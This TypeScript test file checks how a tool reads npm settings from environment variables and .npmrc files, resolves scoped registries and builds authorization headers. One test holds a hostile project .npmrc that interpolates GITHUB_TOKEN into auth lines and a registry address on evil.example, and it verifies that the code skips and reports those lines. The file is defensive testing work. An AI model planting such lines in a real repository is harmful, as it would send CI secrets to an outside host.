import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { defaultUrl } from 'registry-url';
import { expect, onTestFinished, test } from 'vitest';
import { authorizationOf, readNpmSettings, registryOf } from '../../../src/adapters/runtime/npmrc.ts';
import { sandbox } from './fixture.ts';

/** Writes the three files and reads the settings from a folder inside the project. */
async function settingsFrom(
  files: { project?: string; user?: string; global?: string },
  env: NodeJS.ProcessEnv = {},
) {
  const box = await sandbox();
  onTestFinished(() => box[Symbol.asyncDispose]());
  await writeFile(join(box.app, 'package.json'), '{}');
  if (files.project) await writeFile(join(box.app, '.npmrc'), files.project);
  if (files.user) await writeFile(join(box.home, '.npmrc'), files.user);
  if (files.global) await writeFile(join(box.root, 'npmrc'), files.global);
  const folder = join(box.app, 'src/deep');
  await mkdir(folder, { recursive: true });
  const settings = await readNpmSettings(box.options(env).env, folder, (message) => box.said.push(message));
  return { settings, said: box.said };
}

const authorization = (settings: Readonly<Record<string, string>>, url: string) =>
  authorizationOf(settings, new URL(url));

test('without settings it is npm’s own registry', () => {
  expect(registryOf({}, 'onnxruntime-node')).toBe(defaultUrl);
});

test('environment, project, user and global file, in this order; a project without a registry hides no other', async () => {
  const [project, user, global] = ['https://p.example/', 'https://u.example/', 'https://g.example/'].map(
    (address) => `registry=${address}\n`,
  ) as [string, string, string];
  const from = async (files: Parameters<typeof settingsFrom>[0], env: NodeJS.ProcessEnv = {}) =>
    registryOf((await settingsFrom(files, env)).settings, 'onnxruntime-node');
  expect(await from({ project, user, global }, { NPM_CONFIG_REGISTRY: 'https://e.example/npm' })).toBe(
    'https://e.example/npm/',
  );
  expect(await from({ project, user, global })).toBe('https://p.example/');
  expect(await from({ project: 'fund=false\n', user, global })).toBe('https://u.example/');
  expect(await from({ global })).toBe('https://g.example/');
  expect(
    await from({}, { NPM_CONFIG_REGISTRY: 'https://a.example', npm_config_registry: 'https://b.example' }),
  ).toBe('https://b.example/');
});

test('comments, quotes, spaces and Windows line ends', async () => {
  const { settings } = await settingsFrom({
    user: '; registry=https://no.example\r\n# x=y\r\n registry = "https://yes.example" \r\n',
  });
  expect(settings).toMatchObject({ registry: 'https://yes.example' });
  expect(Object.keys(settings)).not.toContain('x');
});

test('a scope’s registry goes first for its packages only', () => {
  const settings = { registry: 'https://all.example', '@duckdb:registry': 'https://duck.example/npm' };
  expect(registryOf(settings, '@duckdb/node-api')).toBe('https://duck.example/npm/');
  expect(registryOf(settings, 'onnxruntime-node')).toBe('https://all.example/');
});

test('credentials belong to a host and path: token, user and password, or in the address', () => {
  const settings = {
    '//a.example/npm/:_authToken': 'sesame',
    '//b.example/:username': 'ali',
    '//b.example/:_password': Buffer.from('baba').toString('base64'),
    _auth: 'b2xkOnN0eWxl',
  };
  const basic = (pair: string) => `Basic ${Buffer.from(pair).toString('base64')}`;
  expect(authorization(settings, 'https://a.example/npm/@duckdb/node-api/-/x.tgz')).toBe('Bearer sesame');
  expect(authorization(settings, 'https://a.example/other/x.tgz')).toBeUndefined();
  expect(authorization(settings, 'https://b.example/deep/x.tgz')).toBe(basic('ali:baba'));
  expect(authorization(settings, 'https://c.example/x.tgz')).toBeUndefined();
  expect(authorization(settings, 'https://me:p%40ss@c.example/x.tgz')).toBe(basic('me:p@ss'));
  // A `%` that escapes nothing is one of the password.
  expect(authorization(settings, 'https://me:50%off@c.example/x.tgz')).toBe(basic('me:50%off'));
});

test('the user’s file may use variables; an unset one means no token', async () => {
  const user = `//a.example/:_authToken=\${SESAME}\nregistry=https://\${HOST_NAME}/npm\n`;
  const set = await settingsFrom({ user }, { SESAME: 'open', HOST_NAME: 'a.example' });
  expect(authorization(set.settings, 'https://a.example/x.tgz')).toBe('Bearer open');
  expect(registryOf(set.settings, 'x')).toBe('https://a.example/npm/');
  const unset = await settingsFrom({ user });
  expect(authorization(unset.settings, 'https://a.example/x.tgz')).toBeUndefined();
});

test('a repository’s own file cannot read the environment, and it is said', async () => {
  const project = [
    `//evil.example/:_authToken=\${GITHUB_TOKEN}`,
    '//evil2.example/:_authToken=$GITHUB_TOKEN',
    `registry=https://evil.example/\${GITHUB_TOKEN}/`,
    '//plain.example/:_authToken=written-out',
    `cache=\${HOME}/.npm`,
  ].join('\n');
  const { settings, said } = await settingsFrom({ project }, { GITHUB_TOKEN: 'secret' });
  expect(JSON.stringify(settings)).not.toContain('evil');
  expect(authorization(settings, 'https://evil2.example/x.tgz')).toBeUndefined();
  expect(authorization(settings, 'https://plain.example/x.tgz')).toBe('Bearer written-out');
  expect(said).toHaveLength(3);
  expect(said[0]).toMatch(/skipped "\/\/evil\.example\/:_authToken".*NPM_CONFIG_USERCONFIG/);
});

test('NPM_CONFIG_USERCONFIG can make the project’s file a trusted one', async () => {
  const box = await sandbox();
  onTestFinished(() => box[Symbol.asyncDispose]());
  await writeFile(join(box.app, 'package.json'), '{}');
  const file = join(box.app, '.npmrc');
  await writeFile(file, `//a.example/:_authToken=\${SESAME}\n`);
  const env = box.options({ SESAME: 'open', NPM_CONFIG_USERCONFIG: file }).env;
  const settings = await readNpmSettings(env, box.app, (message) => box.said.push(message));
  expect(authorization(settings, 'https://a.example/x.tgz')).toBe('Bearer open');
  expect(box.said).toEqual([]);
});
